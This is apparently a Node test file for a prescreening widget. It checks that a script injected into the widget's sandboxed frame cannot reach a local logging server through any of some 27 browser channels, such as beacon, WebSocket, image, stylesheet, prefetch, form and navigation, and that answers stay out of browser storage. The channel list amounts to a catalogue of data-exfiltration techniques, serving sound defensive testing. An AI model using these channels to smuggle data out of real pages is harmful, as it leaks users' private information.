// A script that got into the widget tries every way out. Return values lie (a beacon says "sent" when
// it is refused), so the judge is the log of the server that everything is addressed to.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { open, questionFrame, singleFile, site } from "./harness.mjs";
import { begin } from "./person.mjs";

const here = site();
/** @type {string[]} */
let heard = [];
let listener;
let address = "";
before(async () => {
  listener = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end("<p>here</p>");
  });
  // Even a connection that asks for nothing tells that somebody is there.
  listener.on("connection", () => heard.push("a connection"));
  listener.on("upgrade", (request, socket) => {
    heard.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
  address = `http://127.0.0.1:${listener.address().port}`;
});
after(() => listener.close());

/** Each way is a function of an address, run inside the frame with the questions. */
const WAYS = {
  fetch: (to) => fetch(to, { method: "POST", body: "answer", mode: "no-cors" }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  beacon: (to) => navigator.sendBeacon(to, "answer"),
  WebSocket: (to) => new WebSocket(to.replace("http", "ws")),
  EventSource: (to) => new EventSource(to),
  image: (to) => {
    new Image().src = to;
  },
  picture: (to) => document.body.append(Object.assign(document.createElement("img"), { srcset: `${to} 1x` })),
  video: (to) => document.body.append(Object.assign(document.createElement("video"), { src: to, autoplay: true })),
  stylesheet: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to })),
  "style of an element": (to) => {
    document.body.style.backgroundImage = `url(${to})`;
  },
  font: (to) => new FontFace("way", `url(${to})`).load().catch(() => {}),
  prefetch: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to })),
  preconnect: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: to })),
  "module import": (to) => import(to).catch(() => {}),
  worker: (to) => new Worker(to),
  form: (to) => {
    const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "child frame": (to) => document.body.append(Object.assign(document.createElement("iframe"), { src: to })),
  object: (to) => document.body.append(Object.assign(document.createElement("embed"), { type: "text/html", src: to })),
  popup: (to) => window.open(to),
  "link to a new page": (to) => Object.assign(document.createElement("a"), { href: to, target: "_blank" }).click(),
  "ping of a link": (to) => Object.assign(document.createElement("a"), { href: "#x", ping: to }).click(),
  "navigation of the page around": (to) => {
    window.top.location.href = to;
  },
  "navigation of the file": (to) => {
    window.parent.location.href = to;
  },
  "its own navigation": (to) => {
    location.href = to;
  },
  "replacing itself": (to) => location.replace(to),
  "refresh by markup": (to) => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${to}` })),
  "script element": (to) => document.head.append(Object.assign(document.createElement("script"), { src: to })),
};

const CONNECTS_AHEAD = ["child frame", "its own navigation", "replacing itself", "refresh by markup"];

const places = {
  "the single file from a stick": () => singleFile,
  "the single file, served": () => `${here.origin}/pkg/prescreen.html#trials=NCT05061030`,
  "the embed of a page": () => `${here.origin}/www/examples/one.html`,
};

async function widget(page) {
  for (let tries = 0; tries < 100; tries += 1) {
    for (const frame of page.frames()) {
      if ((await frame.locator("#people, #choose:visible").count().catch(() => 0)) > 0) return frame;
    }
    await page.waitForTimeout(50);
  }
  throw new Error("no widget");
}

for (const [name, place] of Object.entries(places)) {
  test(`${name}: no way out is open`, async () => {
    const asked = [];
    const connected = [];
    const tried = [];
    for (const [way, run] of Object.entries(WAYS)) {
      heard = [];
      const { page, close } = await open(here.browser, place());
      const frame = await widget(page);
      const to = `${address}/${encodeURIComponent(way)}`;
      // The outcome inside is of no interest: it may throw, hang, or claim to have worked.
      await Promise.race([frame.evaluate(`(${run.toString()})(${JSON.stringify(to)}); 0`).catch(() => {}), page.waitForTimeout(400)]);
      await page.waitForTimeout(150);
      tried.push(way);
      asked.push(...heard.filter((what) => what !== "a connection"));
      if (heard.length > 0) connected.push(way);
      await close();
    }
    assert.equal(tried.length, Object.keys(WAYS).length);
    assert.deepEqual(asked, []);
    // Chromium connects ahead for a navigation that it then refuses; see docs/privacy.md.
    for (const way of connected) assert.ok(CONNECTS_AHEAD.includes(way), way);
  });
}

test("the same ways are open in a page without a policy, so the judge would hear them", async () => {
  const reached = new Set();
  for (const [way, run] of Object.entries(WAYS)) {
    const { page, close } = await open(here.browser, `${address}/start`);
    heard = [];
    const to = `${address}/${encodeURIComponent(way)}`;
    await Promise.race([page.evaluate(`(${run.toString()})(${JSON.stringify(to)}); 0`).catch(() => {}), page.waitForTimeout(400)]);
    await page.waitForTimeout(200);
    if (heard.length > 0) reached.add(way);
    await close();
  }
  // Connecting ahead may find a connection that is open already.
  const silent = Object.keys(WAYS).filter((way) => !reached.has(way) && way !== "preconnect");
  assert.deepEqual(silent, []);
});

test("answers leave no trace in the browser's stores", async () => {
  const { page, close } = await open(here.browser, singleFile);
  const frame = await questionFrame(page);
  await frame.locator("#choose-all").click();
  await begin(frame, "me");
  const stores = await frame.evaluate(() =>
    ["localStorage", "sessionStorage", "indexedDB", "caches"].map((store) => {
      try {
        return `${store} ${typeof window[store]}`;
      } catch (error) {
        return `${store} ${error.name}`;
      }
    }));
  // An opaque origin has none of its own.
  assert.deepEqual(stores.slice(0, 2), ["localStorage SecurityError", "sessionStorage SecurityError"]);
  await close();
});
